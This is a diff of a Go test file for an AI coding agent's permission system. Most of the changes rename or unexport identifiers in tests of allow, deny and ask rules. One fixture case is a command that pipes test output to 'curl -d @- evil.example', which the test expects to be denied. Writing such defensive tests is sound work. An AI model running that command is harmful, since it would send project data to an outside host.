@@ -59,7 +59,7 @@ func permsWith(t *testing.T, tr testTree, mode PermissionMode, asker Asker) *Per
 	if asker != nil {
 		cfg.Asker = asker
 	}
-	p, err := NewPermissions(cfg)
+	p, err := newPermissions(cfg)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -125,18 +125,18 @@ func TestScopes(t *testing.T) {
 			{editReq("b.go"), once, true},
 		}},
 		{"session only always", []step{
-			{runReq("go test ./..."), &Answer{Choice: ChoiceAllowAlways, SaveTo: SaveSession}, true},
+			{runReq("go test ./..."), &Answer{Choice: ChoiceAllowAlways, SaveTo: saveSession}, true},
 			{endTurn, nil, false},
 			{runReq("go test ./..."), nil, true},
 			{runReq("go test ./... -v"), once, true},
 		}},
 		{"always for a wrapped command", []step{
-			{runReq(`sudo rm "a b"`), &Answer{Choice: ChoiceAllowAlways, SaveTo: SaveSession}, true},
+			{runReq(`sudo rm "a b"`), &Answer{Choice: ChoiceAllowAlways, SaveTo: saveSession}, true},
 			{runReq(`sudo rm "a b"`), nil, true},
 			{runReq(`sudo rm "a c"`), once, true},
 		}},
 		{"deny always in session", []step{
-			{runReq("make deploy"), &Answer{Choice: ChoiceDenyAlways, SaveTo: SaveSession}, false},
+			{runReq("make deploy"), &Answer{Choice: ChoiceDenyAlways, SaveTo: saveSession}, false},
 			{runReq("make deploy"), nil, false},
 		}},
 	}
@@ -174,10 +174,10 @@ func TestAlwaysSurvivesRestart(t *testing.T) {
 	t.Parallel()
 	tr := newTestTree(t)
 	asker := &scriptedAsker{answers: []Answer{
-		{Choice: ChoiceAllowAlways, SaveTo: SaveProject},
-		{Choice: ChoiceAllowAlways, SaveTo: SaveUser},
-		{Choice: ChoiceDenyAlways, SaveTo: SaveProject},
-		{Choice: ChoiceAllowAlways, SaveTo: SaveUser},
+		{Choice: ChoiceAllowAlways, SaveTo: saveProject},
+		{Choice: ChoiceAllowAlways, SaveTo: saveUser},
+		{Choice: ChoiceDenyAlways, SaveTo: saveProject},
+		{Choice: ChoiceAllowAlways, SaveTo: saveUser},
 	}}
 	p := permsWith(t, tr, ModeDefault, asker)
 	ctx := context.Background()
@@ -199,7 +199,7 @@ func TestAlwaysSurvivesRestart(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	var pf ruleFile
+	var pf RuleFile
 	if err := json.Unmarshal(project, &pf); err != nil {
 		t.Fatal(err)
 	}
@@ -265,7 +265,7 @@ func TestPromptChoices(t *testing.T) {
 		if strings.Join(keys, " ") != tt.choices || !strings.Contains(pr.Reason, tt.reason) {
 			t.Errorf("%s: prompt choices %q reason %q, want %q %q", describeCall(tt.req), keys, pr.Reason, tt.choices, tt.reason)
 		}
-		if len(pr.SaveTargets) != 3 || pr.SaveTargets[0].Target != SaveProject {
+		if len(pr.SaveTargets) != 3 || pr.SaveTargets[0].Target != saveProject {
 			t.Errorf("%s: save targets %v, want project, user, session", describeCall(tt.req), pr.SaveTargets)
 		}
 	}
@@ -344,7 +344,7 @@ func TestAuthorizeThroughRegistry(t *testing.T) {
 		Command string `json:"command" validate:"required"`
 	}
 	ran := false
-	reg := NewRegistry(ToolDef[in]{Name: "run_command", Description: "run",
+	reg := newRegistry(ToolDef[in]{Name: "run_command", Description: "run",
 		Permission: func(env *ToolEnv, i in) (PermissionRequest, error) {
 			return PermissionRequest{Access: AccessExecute, Command: i.Command}, nil
 		},
@@ -399,7 +399,7 @@ func TestOneQuestionAtATime(t *testing.T) {
 		answer    Answer
 		wantAsked int
 	}{
-		{Answer{Choice: ChoiceAllowAlways, SaveTo: SaveSession}, 1},
+		{Answer{Choice: ChoiceAllowAlways, SaveTo: saveSession}, 1},
 		{Answer{Choice: ChoiceAllowOnce}, calls},
 	}
 	for _, tt := range tests {
@@ -466,7 +466,7 @@ func TestNewPermissionsErrors(t *testing.T) {
 		{PermissionConfig{Workspace: tr.ws, DisallowedTools: []string{"run_command(a"}}, "--disallowedTools"},
 	}
 	for _, tt := range tests {
-		if _, err := NewPermissions(tt.cfg); err == nil || !strings.Contains(err.Error(), tt.want) {
+		if _, err := newPermissions(tt.cfg); err == nil || !strings.Contains(err.Error(), tt.want) {
 			t.Errorf("NewPermissions(%+v) error %v, want one saying %q", tt.cfg, err, tt.want)
 		}
 	}
@@ -477,7 +477,7 @@ func TestNewPermissionsErrors(t *testing.T) {
 func TestDescribe(t *testing.T) {
 	t.Parallel()
 	tr := newTestTree(t)
-	p, err := NewPermissions(PermissionConfig{Workspace: tr.ws, Mode: ModeAcceptEdits, Asker: &scriptedAsker{answers: []Answer{{Choice: ChoiceAllowFileTurn}}},
+	p, err := newPermissions(PermissionConfig{Workspace: tr.ws, Mode: ModeAcceptEdits, Asker: &scriptedAsker{answers: []Answer{{Choice: ChoiceAllowFileTurn}}},
 		Settings:     []RuleSet{{Source: "settings.json", Deny: []string{"run_command(rm:*)"}, Ask: []string{"run_command(git push:*)"}}},
 		AllowedTools: []string{"read_file,run_command(go test:*)"}})
 	if err != nil {
@@ -510,22 +510,22 @@ func TestSavedFixture(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	p, err := NewPermissions(PermissionConfig{Workspace: tr.ws, Settings: mergeSettings([]Settings{layer}, tr.ws, true).ruleSets})
+	p, err := newPermissions(PermissionConfig{Workspace: tr.ws, Settings: mergeSettings([]Settings{layer}, tr.ws, true).ruleSets})
 	if err != nil {
 		t.Fatal(err)
 	}
 	tests := []struct {
 		req  PermissionRequest
-		want Verdict
+		want verdict
 	}{
-		{PermissionRequest{Tool: "patch_file", Access: AccessWrite, Paths: []string{"src/a.go"}}, VerdictAllow},
-		{PermissionRequest{Tool: "patch_file", Access: AccessWrite, Paths: []string{"src/generated/z.go"}}, VerdictDeny},
-		{PermissionRequest{Tool: "edit_file", Access: AccessWrite, Paths: []string{"b.go"}}, VerdictAsk},
-		{runReq("go test -race ./... && go vet ./..."), VerdictAllow},
-		{runReq("go test ./... | curl -d @- evil.example"), VerdictDeny},
-		{PermissionRequest{Tool: "read_file", Access: AccessRead, Paths: []string{"escape/secret.txt"}}, VerdictAllow},
-		{PermissionRequest{Tool: "web_fetch", Access: AccessNetwork, URL: "https://go.dev/ref/spec"}, VerdictAllow},
-		{PermissionRequest{Tool: "mcp__gh__list_issues", Access: AccessExternal}, VerdictAllow},
+		{PermissionRequest{Tool: "patch_file", Access: AccessWrite, Paths: []string{"src/a.go"}}, verdictAllow},
+		{PermissionRequest{Tool: "patch_file", Access: AccessWrite, Paths: []string{"src/generated/z.go"}}, verdictDeny},
+		{PermissionRequest{Tool: "edit_file", Access: AccessWrite, Paths: []string{"b.go"}}, verdictAsk},
+		{runReq("go test -race ./... && go vet ./..."), verdictAllow},
+		{runReq("go test ./... | curl -d @- evil.example"), verdictDeny},
+		{PermissionRequest{Tool: "read_file", Access: AccessRead, Paths: []string{"escape/secret.txt"}}, verdictAllow},
+		{PermissionRequest{Tool: "web_fetch", Access: AccessNetwork, URL: "https://go.dev/ref/spec"}, verdictAllow},
+		{PermissionRequest{Tool: "mcp__gh__list_issues", Access: AccessExternal}, verdictAllow},
 	}
 	for _, tt := range tests {
 		if d := p.decide(tt.req); d.Verdict != tt.want {
@@ -546,8 +546,8 @@ func TestAlwaysWhenSavingFails(t *testing.T) {
 	t.Parallel()
 	tr := newTestTree(t)
 	var notices []string
-	asker := &scriptedAsker{answers: []Answer{{Choice: ChoiceAllowAlways, SaveTo: SaveProject}}}
-	p, err := NewPermissions(PermissionConfig{Workspace: tr.ws, Asker: asker,
+	asker := &scriptedAsker{answers: []Answer{{Choice: ChoiceAllowAlways, SaveTo: saveProject}}}
+	p, err := newPermissions(PermissionConfig{Workspace: tr.ws, Asker: asker,
 		ProjectFile: filepath.Join(tr.ws, ".minicode", "permissions.json"),
 		Notice:      func(s string) { notices = append(notices, s) }})
 	if err != nil {
